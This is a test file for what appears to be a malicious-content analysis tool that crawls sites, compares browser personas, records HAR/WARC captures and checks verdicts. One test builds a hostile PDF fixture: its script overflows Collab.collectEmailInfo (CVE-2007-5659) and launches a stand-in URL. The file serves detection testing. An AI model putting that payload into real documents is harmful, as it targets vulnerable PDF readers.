"""Lists of visits: how politely sites are visited, what survives a kill, what is written down of each."""
import collections
import hashlib
import http.server
import json
import subprocess
import sys
import threading
import time
import unittest

import harness


class Site:
    """A server on an address of its own that knows how many visits it has at once."""

    def __init__(self, address, answer, hold=0.0):
        self.at_once = self.most = 0
        self.requests = collections.Counter()
        lock = threading.Lock()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(handler):
                with lock:
                    self.at_once += 1
                    self.most = max(self.most, self.at_once)
                    self.requests[handler.path] += 1
                time.sleep(hold)
                body = answer(handler).encode()
                with lock:
                    self.at_once -= 1
                handler.send_response(200)
                handler.send_header("Content-Type", "text/html")
                handler.send_header("Content-Length", str(len(body)))
                handler.end_headers()
                handler.wfile.write(body)

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer((address, 0), Handler)
        self.url = f"http://{address}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Lists(harness.ProgramTest):
    def site(self, *arguments, **options):
        site = Site(*arguments, **options)
        self.addCleanup(site.close)
        return site

    def listed(self, urls):
        return self.write("urls.txt", "".join(url + "\n" for url in urls))

    def test_a_site_has_one_visit_at_a_time_and_sites_go_side_by_side(self):
        everybody = threading.Barrier(2, timeout=60)

        def meet(handler):  # the first visit of each site waits for the other's: one after the other would never end
            if handler.path == "/0":
                everybody.wait()
            return "x"

        sites = [self.site(f"127.0.0.{last}", meet, hold=0.02) for last in (2, 3)]
        urls = [f"{site.url}/{i}" for site in sites for i in range(6)]  # the first site's first: a naive order starves
        spacing = 0.1
        began = time.monotonic()
        visits = self.run_json("inspect", "--allow-private", "--no-store", "--list", self.listed(urls), "--side-by-side",
                               "4", "--site-spacing", str(spacing))["visits"]
        self.assertGreaterEqual(time.monotonic() - began, 5 * spacing)
        self.assertEqual(sorted(visit["url"] for visit in visits), sorted(urls))
        for site in sites:
            self.assertEqual(site.most, 1)

    def test_a_list_does_not_wait_for_web_workers_that_work_in_silence(self):
        pages = {"/": "<script>new Worker('/w.js'); setTimeout(() => new Image().src = '/seen', 1000)</script>",
                 "/w.js": "fetch('/asked'); for (;;) {}"}
        site = self.site("127.0.0.2", lambda handler: pages.get(handler.path, ""))
        [visit] = self.run_json("inspect", "--allow-private", "--no-store", "--list", self.listed([site.url + "/"]))["visits"]
        self.assertEqual(visit["limits_hit"], ["worker-time"])
        self.assertFalse(visit["complete"])
        fetched = {node["url"] for node in visit["nodes"] if node["fetched"]}
        self.assertEqual(fetched, {site.url + path for path in ("/", "/w.js", "/asked", "/seen")})

    def test_personas_of_a_subject_that_was_cut_half_way_are_compared_after_all(self):
        site = self.site("127.0.0.2", lambda handler: "msie" if "MSIE" in handler.headers["User-Agent"] else "other")
        personas = ("ie8-winxp", "chrome-win10")
        journal = self.write("journal", f"benign\tie8-winxp\t{site.url}/\n")
        arguments = ["inspect", "--allow-private", "--no-store", "--list", self.listed([site.url + "/"]), "--resume", journal]
        for persona in personas:
            arguments += ["--persona", persona]
        found = self.run_json(*arguments)
        self.assertEqual(sorted(visit["persona"] for visit in found["visits"]), sorted(personas))
        self.assertEqual(len(found["persona_diff"]), 1)
        self.assertEqual(self.run_json(*arguments)["visits"], [])

    def test_a_failure_leaves_json_whole_and_what_may_succeed_later_is_tried_again(self):
        done = self.run_program("--json", "inspect", "--offline", "--no-store", "http://[/", status=None)
        self.assertNotEqual(done.returncode, 0)
        self.assertEqual(json.loads(done.stdout)["visits"], [])
        journal = self.scratch / "journal"
        gone = self.write("gone.html", "x")
        arguments = ["--json", "inspect", "--offline", "--no-store", "--list", self.listed([str(gone), "no url at all"]),
                     "--resume", journal]
        self.run_program(*arguments, status=1)
        noted = journal.read_text()
        self.assertIn("failed\t", noted)
        self.assertEqual(json.loads(self.run_program(*arguments, status=0).stdout)["visits"], [])

    def test_a_document_that_is_named_is_opened_and_its_scripts_run(self):
        script = "Collab['collectEmail' + 'Info']({msg: Array(5000).join('A')}); app.launchURL('http://files.example/x');"
        document = self.write("invoice.pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS <" +
                              script.encode().hex() + "> >> >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 2 >>\n%%EOF\n")
        [visit] = self.run_json("inspect", "--offline", "--no-store", document)["visits"]
        self.assertEqual(visit["verdict"], "malicious")
        self.assertEqual(visit["nodes"][0]["cves"], ["CVE-2007-5659"])
        self.assertEqual(visit["files"][0]["facts"]["document"]["format"], "PDF 1.7")
        [edge] = visit["edges"]
        self.assertEqual((edge["mechanism"], visit["nodes"][edge["to"]]["url"]), ("component", "http://files.example/x"))
        self.assertEqual(edge["script"]["line"], 1)

    def test_a_file_that_the_store_knows_to_be_bad_convicts_its_page_unless_a_person_clears_it(self):
        picture = "a specimen that somebody has judged"
        site = self.site("127.0.0.2", lambda handler: picture if handler.path == "/i" else "<img src=/i>")
        inspect = lambda: self.run_json("inspect", "--allow-private", site.url)["visits"][0]
        self.assertEqual(inspect()["verdict"], "benign")
        digest = hashlib.sha256(picture.encode()).hexdigest()
        self.run_program("intel", "judge", digest, "confirmed", "--why", "seen in the wild", "--analyst", "aki")
        visit = inspect()
        self.assertEqual(visit["verdict"], "malicious")
        self.assertIn("a person confirmed it", " ".join(visit["reasons"]))
        self.assertEqual([node["role"] for node in visit["nodes"] if node["url"] == site.url + "/i"], ["exploit"])
        self.run_program("intel", "judge", digest, "false-positive", "--why", "ours", "--analyst", "aki")
        self.assertEqual(inspect()["verdict"], "benign")

    def test_every_visit_of_a_list_can_be_written_down_and_replayed(self):
        # The page asks for something else each time, and says who came.
        site = self.site("127.0.0.2", lambda handler: "<script>new Image().src = '/i?' + new Date().getTime() + "
                                                      "navigator.userAgent.length + document.referrer</script>")
        folder = self.scratch / "visits"
        folder.mkdir()
        urls = [site.url + "/a", site.url + "/b"]
        arguments = ["inspect", "--allow-private", "--no-store", "--list", self.listed(urls), "--site-spacing", "0",
                     "--persona", "ie8-winxp", "--persona", "firefox-win10", "--referrer", "http://search.example/?q=x"]
        refused = self.run_program(*arguments, "--warc", self.scratch / "one.warc.gz", status=None)
        self.assertEqual(refused.returncode, 2, refused.stderr)
        for option, extension in (("--har", ".har"), ("--warc", ".warc.gz")):
            visits = self.run_json(*arguments, option, folder)["visits"]
            self.assertEqual(len(visits), 4)
            files = sorted(folder.glob("*" + extension))
            self.assertEqual(len(files), 4)
            replayed = [self.run_json("inspect", "--no-store", "--replay", file)["visits"][0] for file in files]
            for visit in visits:
                [again] = [one for one in replayed if one["url"] == visit["url"] and one["persona"] == visit["persona"]]
                self.assertEqual([node["url"] for node in again["nodes"]], [node["url"] for node in visit["nodes"]])
                self.assertEqual(again["edges"], visit["edges"])
                self.assertEqual([node.get("why_not", "") for node in again["nodes"]], ["", ""])


if __name__ == "__main__":
    unittest.main()
